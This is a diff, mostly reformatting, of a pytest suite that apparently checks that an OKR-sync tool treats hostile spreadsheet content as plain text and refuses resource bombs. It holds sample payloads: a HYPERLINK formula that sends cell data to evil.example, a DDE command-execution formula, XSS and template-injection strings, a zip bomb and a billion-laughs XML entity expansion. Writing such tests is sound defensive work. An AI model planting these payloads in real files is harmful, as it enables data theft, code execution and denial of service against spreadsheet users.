@@ -1,4 +1,6 @@
-"""What people, or worse ones, put into sheets is text everywhere it comes out, and nothing too large or too deep takes more than its own source down."""
+"""What people, or worse ones, put into sheets is text everywhere it comes out, and nothing too
+large or too deep takes more than its own source down.
+"""
 
 from __future__ import annotations
 
@@ -22,17 +24,19 @@ from okrsync.sync import sync
 from okrsync_sandbox.traffic import Fault
 from team import write_workbook
 
-pytestmark = pytest.mark.filterwarnings("ignore:(Unknown|Conditional Formatting) extension:UserWarning:openpyxl")
+pytestmark = pytest.mark.filterwarnings(
+    "ignore:(Unknown|Conditional Formatting) extension:UserWarning:openpyxl"
+)
 
 HOSTILE = {
-    "a formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "a formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "a command": "=cmd|' /C calc'!A0",
     "a sum": "+1+1",
     "an at sign": "@SUM(1+1)",
     "a minus": "-2+3+cmd",
     "a tab before a formula": "\t=1+1",
     "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
-    "an attribute": "\" onmouseover=\"alert(1)",
+    "an attribute": '" onmouseover="alert(1)',
     "a template": "{{7*7}} ${7*7} {% raw %} %(x)s {0}",
     "terminal markup": "[bold red]loud[/] [link=http://evil.example]x[/link]",
     "markdown": "[x](javascript:alert(1)) **b** ![i](http://evil.example/p.png)",
@@ -46,8 +50,17 @@ HOSTILE = {
     "half a sign": "\ud83d alone",
     "a long word": "long" * 20_000,
     "emoji": "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 e\u0301\u0301\u0301",
-}  # fmt: skip
-COMMANDS = [["show"], ["plan"], ["check"], ["history"], ["sync"], ["plan", "--json"], ["show", "--json"], ["mappings"]]
+}
+COMMANDS = [
+    ["show"],
+    ["plan"],
+    ["check"],
+    ["history"],
+    ["sync"],
+    ["plan", "--json"],
+    ["show", "--json"],
+    ["mappings"],
+]
 
 
 @pytest.fixture
@@ -58,13 +71,18 @@ def acme(tmp_path: Path) -> Iterator[Company]:
 
 def _storable(text: str) -> str:
     """A text as a workbook can hold it: XML knows no control characters and no half signs."""
-    return "".join(sign for sign in text if sign in "\t\n\r" or unicodedata.category(sign) not in ("Cc", "Cs"))
+    return "".join(
+        sign for sign in text if sign in "\t\n\r" or unicodedata.category(sign) not in ("Cc", "Cs")
+    )
 
 
 def _poison(acme: Company, text: str) -> None:
-    """Put a text into every kind of place that is read: titles, owners, tab names, notes, headers."""
+    """Put a text into every kind of place that is read: titles, owners, tab names, notes,
+    headers.
+    """
     whole = _storable(text)
-    # A person who types such a text gets it as text; a formula is what the spreadsheet makes of one.
+    # A person who types such a text gets it as text; a formula is what the spreadsheet makes of
+    # one.
     acme.mia.put(acme.care, "Q4", "A2", f"'{whole}" if whole.startswith("=") else whole)
     acme.mia.put(acme.care, "Q4", "B2", f"KR {whole}")
     acme.mia.put(acme.growth, "Q4", "C2", f"Mia {whole}"[:40_000])
@@ -73,7 +91,15 @@ def _poison(acme: Company, text: str) -> None:
     write_workbook(
         acme.folder / "ops.xlsx",
         [
-            ["Objective", "Key result", "Owner", "Baseline", "Current", "Target", whole[:200].lstrip("=") or "x"],
+            [
+                "Objective",
+                "Key result",
+                "Owner",
+                "Baseline",
+                "Current",
+                "Target",
+                whole[:200].lstrip("=") or "x",
+            ],
             [whole[:30_000], f"KR {whole[:30_000]}", whole[:30_000], 0, 5, 10, None],
             ["Plain", "Also plain", "Kim", 0, whole[:30_000], 10, whole[:30_000]],
         ],
@@ -88,7 +114,10 @@ def _poison(acme: Company, text: str) -> None:
 
 def _printed(acme: Company, capsys: pytest.CaptureFixture[str], *arguments: str) -> str:
     capsys.readouterr()
-    code = run(okrsync, ["--config", str(acme.folder / "okrsync.toml"), "--as-of", TODAY.isoformat(), *arguments])
+    code = run(
+        okrsync,
+        ["--config", str(acme.folder / "okrsync.toml"), "--as-of", TODAY.isoformat(), *arguments],
+    )
     out, err = capsys.readouterr()
     assert "should not have happened" not in err, err
     assert code in (0, 2, 3), (code, err)
@@ -96,9 +125,12 @@ def _printed(acme: Company, capsys: pytest.CaptureFixture[str], *arguments: str)
 
 
 def _is_harmless(text: str) -> bool:
-    """Whether a terminal takes nothing in a text for an order, and nobody reads it the other way round."""
+    """Whether a terminal takes nothing in a text for an order, and nobody reads it the other way
+    round.
+    """
     return not any(
-        (unicodedata.category(sign) in ("Cc", "Cs") and sign != "\n") or sign in "\u202e\u202d\u2066\u2067\u200f"
+        (unicodedata.category(sign) in ("Cc", "Cs") and sign != "\n")
+        or sign in "\u202e\u202d\u2066\u2067\u200f"
         for sign in text
     )
 
@@ -129,7 +161,11 @@ def test_hostile_text_is_text_wherever_it_comes_out(
             for written, name in zip(row, [*names, *[None] * len(row)], strict=False):
                 if tab.title != "Ops" or name in ours:
                     assert written.data_type != "f", written
-    rows = list(csv.reader(io.StringIO((acme.folder / "sales.csv").read_text(encoding="utf-8", errors="replace"))))
+    rows = list(
+        csv.reader(
+            io.StringIO((acme.folder / "sales.csv").read_text(encoding="utf-8", errors="replace"))
+        )
+    )
     assert all(not cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row[5:])
     assert {"notion-token", "okrsync.toml", "ops.xlsx", "sales.csv", "service-account.json"} == {
         path.name for path in acme.folder.iterdir() if not path.name.startswith((".", "okrsync.db"))
@@ -149,8 +185,13 @@ def _bomb(path: Path, sheet: bytes) -> None:
             made.writestr(name, sheet if name == "xl/worksheets/sheet1.xml" else content)
 
 
-def test_a_workbook_that_unpacks_to_gigabytes_is_refused_before_it_is_unpacked(acme: Company) -> None:
-    _bomb(acme.folder / "ops.xlsx", b"<worksheet><sheetData>" + b" " * (600 << 20) + b"</sheetData></worksheet>")
+def test_a_workbook_that_unpacks_to_gigabytes_is_refused_before_it_is_unpacked(
+    acme: Company,
+) -> None:
+    _bomb(
+        acme.folder / "ops.xlsx",
+        b"<worksheet><sheetData>" + b" " * (600 << 20) + b"</sheetData></worksheet>",
+    )
     assert (acme.folder / "ops.xlsx").stat().st_size < 2 << 20
     done = acme.sync()
     ops = next(part for part in done.sources if part.name == "ops")
@@ -162,9 +203,11 @@ def test_a_workbook_that_multiplies_entities_is_refused(acme: Company) -> None:
     laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 12))
     _bomb(
         acme.folder / "ops.xlsx",
-        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">' + laughs + b"]><worksheet><sheetData><row r=\"1\">"
+        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">'
+        + laughs
+        + b']><worksheet><sheetData><row r="1">'
         b'<c r="A1" t="inlineStr"><is><t>&l11;</t></is></c></row></sheetData></worksheet>',
-    )  # fmt: skip
+    )
     done = acme.sync()
     ops = next(part for part in done.sources if part.name == "ops")
     assert done.exit_code in (0, 3)
@@ -172,7 +215,9 @@ def test_a_workbook_that_multiplies_entities_is_refused(acme: Company) -> None:
 
 
 @pytest.mark.parametrize("service", ["google", "notion"])
-def test_an_answer_of_a_hundred_thousand_brackets_spoils_one_source(acme: Company, service: str) -> None:
+def test_an_answer_of_a_hundred_thousand_brackets_spoils_one_source(
+    acme: Company, service: str
+) -> None:
     deep = b"[" * 100_000 + b"]" * 100_000
     traffic = acme.google.traffic if service == "google" else acme.notion.traffic
     traffic.fail(Fault(lambda call: call.kind == "read", times=10**6, body=deep))
